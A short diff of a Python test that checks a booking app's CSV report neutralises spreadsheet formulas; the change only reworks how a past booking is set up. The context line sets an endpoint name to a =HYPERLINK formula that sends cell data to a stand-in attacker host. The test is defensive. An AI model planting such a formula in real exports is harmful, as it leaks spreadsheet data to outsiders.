@@ -158,8 +158,8 @@ def test_report_csv_neutralises_formulas(client, login_as, book, sites):
 
     name = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm")'
     registry.update_endpoint(sites["hall"], {"name": name})
-    book([sites["hall"]], utcnow() - timedelta(days=3), title="Họp tuần trước")
-    db.session.commit()
+    past = book([sites["hall"]], next_working_day(), title="Họp tuần trước")
+    move_into_the_past(past, (utcnow() - timedelta(days=3)) - past.starts_at)
     login_as("admin")
     text = client.get("/readiness/report.csv").get_data(as_text=True).lstrip("\ufeff")
     rows = list(csv.reader(io.StringIO(text)))
